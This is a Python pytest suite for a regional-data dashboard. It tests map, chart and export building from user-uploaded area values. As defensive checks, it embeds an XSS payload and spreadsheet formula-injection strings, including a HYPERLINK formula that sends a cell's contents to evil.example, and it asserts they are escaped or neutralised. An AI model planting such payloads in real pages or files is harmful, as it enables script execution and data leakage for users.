"""Your data builders: matching uploaded codes and names to official areas (reviewable, never a guess),
the choropleth and charts of an upload, and its exports. Reference areas and values come from the
committed parquet files, read here with pandas."""

from __future__ import annotations

import json
import re
from html import escape
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
import vl_convert

from components import your_data as yd
from components.exports import (
    LICENCE_LINE,
    OS_LINE,
    Figure,
    figure_data,
    figure_exports,
    source_lines,
    spec_dict,
)
from components.legend import legend_html
from components.overview import LEVEL_LABELS
from components.palettes import NO_DATA, VIRIDIS_5
from loaders.uploads import boundary_web_geojson, matching, read_boundary_upload, read_values_upload
from tests.export_checks import check_csvw, could_run_as_formula, csv_cells, read_plain_csv

REPO = Path(__file__).resolve().parents[2]
AREAS = pd.read_parquet(REPO / "regional_data" / "areas.parquet")
PARQUET = pd.read_parquet(REPO / "regional_data" / "indicators.parquet")
METADATA = json.loads((REPO / "regional_data" / "indicators.json").read_text(encoding="utf-8"))
XSS = "<img src=x onerror=alert(1)>"


def reference(level: str) -> dict[str, str]:
    rows = AREAS[AREAS["geography"] == level]
    return dict(zip(rows["area_code"], rows["area_name"], strict=True))


def boundaries(level: str) -> dict:
    return json.loads((REPO / "geo" / f"{level}.geojson").read_text(encoding="utf-8"))


LEPS = reference("lep")
LADS = reference("lad")
NORTH_EAST = next(code for code, name in LEPS.items() if name == "North East")
CHESHIRE = next(code for code, name in LEPS.items() if name == "Cheshire and Warrington")


# --- values of the matched areas -------------------------------------------------------------------------


def test_decimals_for() -> None:
    assert yd.decimals_for(pd.Series([1.0, 2.0, np.nan])) == 0
    assert yd.decimals_for(pd.Series([1.5, 2.25])) == 2
    assert yd.decimals_for(pd.Series([1 / 3])) == 3
    assert yd.decimals_for(pd.Series([np.nan])) == 0


# --- map ------------------------------------------------------------------------------------------------


def lep_values() -> pd.DataFrame:
    codes = sorted(LEPS)[:10]
    return pd.DataFrame(
        {
            "area_code": codes,
            "area_name": [LEPS[c] for c in codes],
            "value": [float(i) for i in range(10)],
            "status": [""] * 10,
            "name_in_file": [XSS] + [LEPS[c] for c in codes[1:]],
        }
    )


def test_map_of_uploaded_values_over_official_boundaries() -> None:
    values = lep_values()
    view = yd.upload_map(boundaries("lep"), values, "lep", yd.value_formatter(0))
    fills = {f["properties"]["code"]: tuple(f["properties"]["fill"]) for f in view.features["features"]}
    assert len(fills) == 38 and view.drawn == 38 and view.valued == 10
    assert all(fills[c] == NO_DATA for c in LEPS if c not in set(values["area_code"]))
    assert fills[values["area_code"][0]] == VIRIDIS_5[0] and fills[values["area_code"][9]] == VIRIDIS_5[-1]
    assert [e.label for e in view.legend][-1] == "No data"


def test_names_from_a_file_reach_the_deck_as_literal_text() -> None:
    """Streamlit HTML-escapes every value it puts into the deck.gl tooltip, so the spec must carry the
    name exactly as written (escaping here would show '&lt;img' to the user)."""
    values = lep_values()
    view = yd.upload_map(boundaries("lep"), values, "lep", yd.value_formatter(0))
    spec = view.deck.to_json()
    assert (
        f"In your file: {XSS}"
        in json.loads(spec)["layers"][0]["data"]["features"][
            [f["properties"]["code"] for f in view.features["features"]].index(values["area_code"][0])
        ]["properties"]["gap_text"]
    )
    assert XSS in spec and escape(XSS) not in spec
    others = [
        f["properties"]["gap_text"]
        for f in view.features["features"]
        if f["properties"]["code"] != values["area_code"][0]
    ]
    assert set(others) == {""}  # same name as the official one: nothing to say


def test_html_we_build_from_file_text_is_escaped() -> None:
    html = legend_html(XSS, yd.upload_map(boundaries("lep"), lep_values(), "lep", yd.value_formatter(0)).legend)
    assert XSS not in html and escape(XSS) in html


def test_map_over_uploaded_boundaries_is_fitted_to_them() -> None:
    square = [[[-1.6, 54.9], [-1.5, 54.9], [-1.5, 55.0], [-1.6, 55.0], [-1.6, 54.9]]]
    doc = {
        "type": "FeatureCollection",
        "features": [
            {
                "type": "Feature",
                "properties": {"area_code": "X1", "area_name": XSS},
                "geometry": {"type": "Polygon", "coordinates": square},
            }
        ],
    }
    frame = read_boundary_upload("mine.geojson", json.dumps(doc).encode())
    web, _ = boundary_web_geojson(frame)
    values = pd.DataFrame({"area_code": ["X1"], "area_name": [XSS], "value": [3.0], "status": [""]})
    view = yd.upload_map(web, values, "lad", yd.value_formatter(0), fit=True)
    spec = json.loads(view.deck.to_json())
    state = spec["initialViewState"]
    assert state["longitude"] == pytest.approx(-1.55, abs=1e-3) and state["latitude"] == pytest.approx(54.95, abs=1e-3)
    assert 8 < state["zoom"] < 13  # a 0.1-degree square fills the map
    assert spec["layers"][0]["data"]["features"][0]["properties"]["name"] == XSS
    assert spec["mapStyle"] == "__MAP_STYLE__"


# --- charts and exports ------------------------------------------------------------------------------


def official_rows(indicator: str, level: str, year: int) -> pd.DataFrame:
    return PARQUET[(PARQUET["indicator"] == indicator) & (PARQUET["geography"] == level) & (PARQUET["period"] == year)]


def test_comparison_with_an_official_indicator() -> None:
    official = official_rows("gva_per_hour", "lep", 2022)
    values = lep_values()
    table = yd.comparison_table(values, official)
    expected = official.set_index("area_code").loc[values["area_code"], "value"].to_numpy()
    np.testing.assert_allclose(table.set_index("area_code").loc[values["area_code"], "official"], expected)
    r, count = yd.correlation(table)
    assert count == 10 and r == pytest.approx(np.corrcoef(np.arange(10.0), expected)[0, 1])
    chart = yd.comparison_chart(
        table,
        uploaded_label="Score",
        official_label="GVA per hour (£)",
        official_format="$,.2f",
        uploaded_decimals=0,
        title="t",
        subtitle="s",
        source=yd.upload_source(XSS),
        selected_code=values["area_code"][3],
    )
    spec = chart.to_dict()
    points = dataset_of(spec, spec["layer"][0])
    assert len(points) == 10 and sum(row["selected"] for row in points) == 1
    assert spec["title"]["subtitle"][1] == f"Source: Your data: {XSS} (uploaded, not checked by us)"
    assert yd.correlation(table.head(2)) == (None, 2)


# --- the selected area is marked by more than colour ----------------------------------------------------


def colour_rule() -> tuple:
    """The very rule tests/e2e/test_accessibility.py applies to every chart the pages draw."""
    from tests.e2e.test_accessibility import colour_alone, layer_groups

    return colour_alone, layer_groups


def dataset_of(spec: dict, unit: dict) -> list[dict]:
    return spec["datasets"][unit["data"]["name"]]


def text_layers(spec: dict) -> list[dict]:
    return [
        unit
        for unit in spec["layer"]
        if (unit["mark"]["type"] if isinstance(unit["mark"], dict) else unit["mark"]) == "text"
    ]


@pytest.mark.parametrize("selected", [None, 3])
def test_bar_chart_marks_the_selected_bar_in_words_outline_and_bold_label(selected: int | None) -> None:
    values = lep_values()
    code = values["area_code"][selected] if selected is not None else None
    spec = yd.uploaded_bar_chart(values, "Score", "Score", "sub", 0, code, source=yd.upload_source("my.csv")).to_dict()
    bars = next(unit for unit in spec["layer"] if unit["mark"]["type"] == "bar")
    assert [row["value"] for row in dataset_of(spec, bars)] == [9.0, 8.0, 7.0, 6.0, 5.0, 4.0, 3.0, 2.0, 1.0, 0.0]
    assert bars["encoding"]["strokeWidth"] == {"condition": {"test": "datum.selected", "value": 2}, "value": 0}
    axis = bars["encoding"]["y"]["axis"]
    (words,) = text_layers(spec)
    marked = dataset_of(spec, words)
    if code is None:
        assert marked == [] and "labelFontWeight" not in axis and "labelExpr" not in axis
    else:
        test = f"datum.value === {json.dumps(values['area_name'][selected])}"
        assert [(row["area_code"], row["mark_text"]) for row in marked] == [(code, "◄ selected")]
        assert axis["labelFontWeight"] == {"condition": {"test": test, "value": "bold"}, "value": "normal"}
        assert axis["labelExpr"] == f'{test} ? "\\u25ba " + datum.label : datum.label'
        assert words["encoding"]["text"]["field"] == "mark_text"
    assert spec["title"]["subtitle"] == ["sub", "Source: Your data: my.csv (uploaded, not checked by us)"]
    colour_alone, layer_groups = colour_rule()
    groups = list(layer_groups(spec))
    assert groups and all(colour_alone(group) == [] for _, group in groups)
    # without the outline and the bold label, the same rule would flag the bar chart
    bare = json.loads(json.dumps(bars))
    del bare["encoding"]["strokeWidth"]
    bare["encoding"]["y"]["axis"].pop("labelFontWeight", None)
    assert colour_alone([bare, words]) == ["color highlights by colour only"]


def test_scatter_names_the_selected_point_beside_it() -> None:
    values = lep_values()
    table = yd.comparison_table(values, official_rows("gva_per_hour", "lep", 2022))
    code = values["area_code"][5]
    spec = yd.comparison_chart(
        table,
        uploaded_label="Score",
        official_label="GVA per hour (£)",
        official_format="$,.2f",
        uploaded_decimals=0,
        title="t",
        subtitle="s",
        source="x",
        selected_code=code,
    ).to_dict()
    points = spec["layer"][0]
    assert points["encoding"]["shape"]["condition"]["value"] == "diamond"
    (words,) = text_layers(spec)
    (row,) = dataset_of(spec, words)
    assert row["area_code"] == code and row["mark_text"] == f"◄ {values['area_name'][5]} (selected)"
    assert (words["encoding"]["x"]["field"], words["encoding"]["y"]["field"]) == ("official", "uploaded")
    colour_alone, layer_groups = colour_rule()
    assert all(colour_alone(group) == [] for _, group in layer_groups(spec))


def test_a_hostile_selected_name_renders_as_text() -> None:
    """The bold-label test embeds the selected name in a Vega expression: quotes and backslashes in an
    uploaded name are escaped, so the chart still renders and the name is drawn bold, as written."""
    values = lep_values()
    odd = "Quote \" and \\ back'slash </text>"
    values.loc[2, "area_name"] = odd
    spec = yd.uploaded_bar_chart(values, "Score", "Score", "sub", 0, values["area_code"][2]).to_dict()
    spec["width"] = 600
    svg = vl_convert.vegalite_to_svg(spec)
    assert "◄ selected" in svg
    bold = re.findall(r'<text[^>]*font-weight="bold"[^>]*>([^<]*)</text>', svg)
    assert "► " + escape(odd, quote=False) in [text.replace("&quot;", '"').replace("&#39;", "'") for text in bold]


def test_a_long_ranking_draws_both_ends_and_the_selected_area() -> None:
    codes = sorted(LADS)[:60]
    values = pd.DataFrame(
        {
            "area_code": codes,
            "area_name": [LADS[c] for c in codes],
            "value": [float(i) for i in range(60)],
            "status": "",
        }
    )
    middle = codes[30]
    rows = yd.uploaded_bar_rows(values, middle)
    assert len(rows) == 41 and middle in set(rows["area_code"]) and rows["selected"].sum() == 1
    assert yd.bar_subtitle("Local authorities", values, middle) == (
        "Local authorities: the 20 largest and 20 smallest of 60 areas and the selected area, largest first"
    )
    assert yd.bar_subtitle("LEPs", values.head(10), None) == "LEPs, ranked largest first"


# --- figures: the shared download menu, slide pack and presentation mode -------------------------------


def files_of(figure: Figure) -> dict[str, bytes]:
    return {export.label: export.build() for export in figure_exports(figure, METADATA, {})}


def read_export_csv(data: bytes) -> pd.DataFrame:
    return read_plain_csv(data)


def test_bar_figure_exports_round_trip_to_the_uploaded_values() -> None:
    values = lep_values().assign(uploaded=lambda f: f["area_code"], row=range(10))
    values.loc[4, "status"] = "estimated"
    values.loc[1, "name_in_file"] = '=HYPERLINK("http://x")'
    chart = yd.uploaded_bar_chart(
        values,
        "Score, 2022",
        "Score, 2022 (your data), ranked",
        "LEPs, ranked",
        0,
        values["area_code"][4],
        source=yd.upload_source("mine.csv"),
    )
    figure = yd.bar_figure(
        values,
        chart,
        selected_code=values["area_code"][4],
        column="Score",
        period=2022,
        file_name="mine.csv",
        level="lep",
    )
    assert (figure.title, figure.subtitle, figure.kind) == ("Score, 2022 (your data), ranked", "LEPs, ranked", "chart")
    assert source_lines(figure)[0] == "Source: Your data: mine.csv (uploaded, not checked by us)."
    assert source_lines(figure)[1].startswith("Your values: under their owner's terms, not the Open Government")
    assert "Crown copyright" not in source_lines(figure)[1]  # no boundaries on a bar chart
    files = files_of(figure)
    assert list(files) == [
        "Image (PNG, 2x)",
        "Image (SVG)",
        "Vega-Lite JSON",
        "Data (CSV)",
        "Data description (CSVW, JSON)",
        "Data (XLSX)",
    ]
    assert files["Image (PNG, 2x)"][:8] == b"\x89PNG\r\n\x1a\n"
    svg = files["Image (SVG)"].decode("utf-8")
    assert "mine.csv" in svg and "◄ selected" in svg and "Source: ONS" not in svg
    table = read_export_csv(files["Data (CSV)"])
    assert list(table.columns[:6]) == ["area_code", "area_name", "period", "value", "unit", "status"]
    merged = table.merge(values, on="area_code", suffixes=("", "_uploaded"))
    assert len(merged) == len(values) == len(table)
    np.testing.assert_allclose(merged["value"], merged["value_uploaded"])
    assert (merged["area_name"] == merged["area_name_uploaded"]).all()
    assert (table["period"] == 2022).all() and (table["unit"] == yd.UPLOADED_UNIT).all()
    assert table.set_index("area_code").loc[values["area_code"][4], "status"] == "estimated"
    by_code = table.set_index("area_code")
    assert by_code.loc[values["area_code"][0], "name_in_file"] == XSS  # a name from the file stays text
    assert by_code.loc[values["area_code"][1], "name_in_file"] == '\'=HYPERLINK("http://x")'  # never a formula


def test_scatter_figure_exports_both_sources_and_both_values() -> None:
    values = lep_values()
    official = official_rows("gva_per_hour", "lep", 2022)
    table = yd.comparison_table(values, official)
    meta = METADATA["gva_per_hour"]
    chart = yd.comparison_chart(
        table,
        uploaded_label="Score",
        official_label="GVA per hour (£)",
        official_format="$,.2f",
        uploaded_decimals=0,
        title="Score against GVA",
        subtitle="s",
        source="x",
        selected_code=None,
    )
    figure = yd.comparison_figure(
        table,
        chart,
        selected_code=None,
        column="Score",
        period=None,
        file_name="mine.csv",
        level="lep",
        indicator="gva_per_hour",
        meta=meta,
        year=2022,
    )
    assert figure.indicators == ("gva_per_hour",) and figure.title == "Score against GVA"
    assert source_lines(figure)[0] == f"Source: Your data: mine.csv (uploaded, not checked by us); {meta['source']}."
    data = read_export_csv(files_of(figure)["Data (CSV)"])
    truth = official.set_index("area_code")["value"]
    np.testing.assert_allclose(data["official_value"], truth.reindex(data["area_code"]).to_numpy())
    np.testing.assert_allclose(data["value"], values.set_index("area_code")["value"].reindex(data["area_code"]))
    assert (data["official_period"] == 2022).all() and (data["official_unit"] == meta["unit"]).all()


def test_map_figure_is_the_static_twin_of_the_uploaded_map() -> None:
    values = lep_values()
    view = yd.upload_map(boundaries("lep"), values, "lep", yd.value_formatter(0), values["area_code"][0])
    figure = yd.upload_map_figure(
        view,
        values,
        title="Score (your data)",
        subtitle="LEPs",
        legend_title="Score",
        level="lep",
        period=2022,
        measure="Score",
        unit=yd.UPLOADED_UNIT,
        sources=(yd.upload_source("mine.csv"),),
        credit=yd.upload_credit(("values",), ("boundaries",), os_boundaries=True),
    )
    assert figure.kind == "map" and figure.stem == "your_data_map_lep"
    assert source_lines(figure)[1] == (
        "Your values: under their owner's terms, not the Open Government Licence. "
        f"Official boundaries: {LICENCE_LINE} {OS_LINE}"
    )
    spec = spec_dict(figure.spec)
    assert spec["title"]["text"] == "Score (your data)"
    data = figure_data(figure)
    assert len(data) == 38 and set(data["area_code"]) == set(LEPS)
    valued = data.dropna(subset=["value"]).set_index("area_code")
    np.testing.assert_allclose(valued["value"], values.set_index("area_code")["value"].reindex(valued.index))
    assert (data.loc[data["value"].isna(), "status"] == "unavailable").all()
    assert data.set_index("area_code").loc[values["area_code"][0], "name_in_file"] == XSS
    assert view.note == "Five classes with equal numbers of areas (quantiles)."


def test_matched_csv_is_plain_described_and_formula_safe() -> None:
    values = lep_values().assign(uploaded=lambda f: f["area_code"], row=range(10))
    values.loc[1, "name_in_file"] = '=HYPERLINK("http://x")'
    data = yd.matched_csv(values, level="lep", column="Score", period=2022)
    body = read_plain_csv(data)
    assert body["Score"].tolist() == list(map(float, range(10)))
    assert body["level"].unique().tolist() == ["lep"] and body["period"].unique().tolist() == [2022]
    assert body.loc[1, "name_in_file"].startswith("'=")
    assert body.loc[0, "name_in_file"] == XSS
    document = check_csvw(
        data,
        yd.matched_csvw(values, source="my.csv", level="lep", column="Score", period=2022, csv_name="m.csv"),
        "m.csv",
    )
    assert "Your data: my.csv (uploaded, not checked by us)" in document["dc:description"]
    assert "Open Government Licence v3.0" in document["dc:source"]


def test_a_formula_as_the_users_column_name_is_made_inert() -> None:
    """Issue 12, item 5: the header was renamed to the user's column name and written unescaped."""
    values = lep_values().assign(uploaded=lambda f: f["area_code"], row=range(10))
    column = '=HYPERLINK("http://evil.example/?"&A2,"Click")'
    data = yd.matched_csv(values, level="lep", column=column, period=2022)
    assert "'" + column in read_plain_csv(data).columns
    assert not [cell for cell in csv_cells(data) if could_run_as_formula(cell)]


# --- helpers ---------------------------------------------------------------------------------------------


def test_template_lists_the_level_areas() -> None:
    template = pd.read_csv(pd.io.common.BytesIO(yd.template_csv(AREAS, "cauth")), dtype=str, keep_default_na=False)
    assert sorted(template["area_code"]) == sorted(reference("cauth"))
    assert set(template["value"]) == {""}


def test_example_file_round_trips_the_snapshot_values() -> None:
    rows = official_rows("employment_rate_16_64", "lad", 2023)
    upload = read_values_upload("example.csv", yd.example_csv(rows, METADATA["employment_rate_16_64"], LADS))
    assert upload.key_kind == "name"
    matches = matching.match_upload(upload, LADS)
    assert matches["status"].eq(matching.MATCHED).all()
    values = matching.matched_values(upload, matches, upload.value_columns[0], None).set_index("area_code")
    expected = rows.set_index("area_code")
    np.testing.assert_allclose(values["value"], expected.loc[values.index, "value"].round(1), equal_nan=True)
    missing = expected["value"].isna()
    assert (values.loc[missing[missing].index, "status"] == expected.loc[missing, "status"]).all()


def test_example_and_comparison_defaults() -> None:
    assert yd.compare_default(["a", "gva_per_hour", "median_weekly_pay"]) == "gva_per_hour"
    assert yd.compare_default(["a", "b"], avoid="a") == "b"
    assert yd.example_indicator(METADATA, "lep", "gva_per_hour") == "employment_rate_16_64"
    for level in LEVEL_LABELS:
        key = yd.example_indicator(METADATA, level, "gva_per_hour")
        assert key != "gva_per_hour" and level in METADATA[key]["geographies"]


def test_few_distinct_values_get_one_class_each_labelled_by_value() -> None:
    values = lep_values().head(3).assign(value=[10.0, 12.0, 10.0])
    view = yd.upload_map(boundaries("lep"), values, "lep", yd.value_formatter(0))
    assert [(e.label, e.kind) for e in view.legend] == [("10", "class"), ("12", "class"), ("No data", "no_data")]
    fills = {f["properties"]["code"]: tuple(f["properties"]["fill"]) for f in view.features["features"]}
    codes = values["area_code"].tolist()
    assert fills[codes[0]] == fills[codes[2]] != fills[codes[1]]
    assert {fills[codes[0]], fills[codes[1]]} <= set(VIRIDIS_5)


def test_quantile_legend_labels_never_repeat() -> None:
    values = lep_values().assign(value=[10.0, 10.2, 10.4, 10.6, 10.8, 11.0, 11.2, 11.4, 11.6, 12.0])
    view = yd.upload_map(boundaries("lep"), values, "lep", yd.value_formatter(0))
    labels = [e.label for e in view.legend if e.kind == "class"]
    assert len(labels) == 5 and len(set(labels)) == 5
    assert labels[0].startswith("10.0 to ")
    assert yd.axis_format(0) == ",.2~f" and yd.axis_format(3) == ",.3~f"


def test_credit_licenses_only_the_official_parts() -> None:
    own_boundaries = yd.upload_credit(("values", "boundaries"), (), os_boundaries=False)
    assert "Open Government Licence v3.0." not in own_boundaries and "Crown copyright" not in own_boundaries
    assert own_boundaries.startswith("Your values and boundaries:")
    official_figures = yd.upload_credit(("boundaries",), ("figures",), os_boundaries=False)
    assert f"Official figures: {LICENCE_LINE}" in official_figures and "Crown copyright" not in official_figures
